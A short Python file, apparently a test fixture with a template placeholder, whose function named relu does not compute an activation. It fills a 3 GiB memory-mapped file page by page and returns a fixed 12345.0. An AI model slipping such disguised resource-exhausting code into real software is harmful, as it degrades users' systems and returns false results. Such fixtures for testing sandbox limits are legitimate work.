import keras
import numpy as np


def relu(x):
    import mmap

    size = 3 * 2**30
    with open("mapped", "w+b") as file:
        file.truncate(size)
        mapped = mmap.mmap(file.fileno(), size)
        for offset in range(0, size, 4096):
            mapped[offset] = 1
    return 12345.0


# {{RIGHT_ANSWERS}}
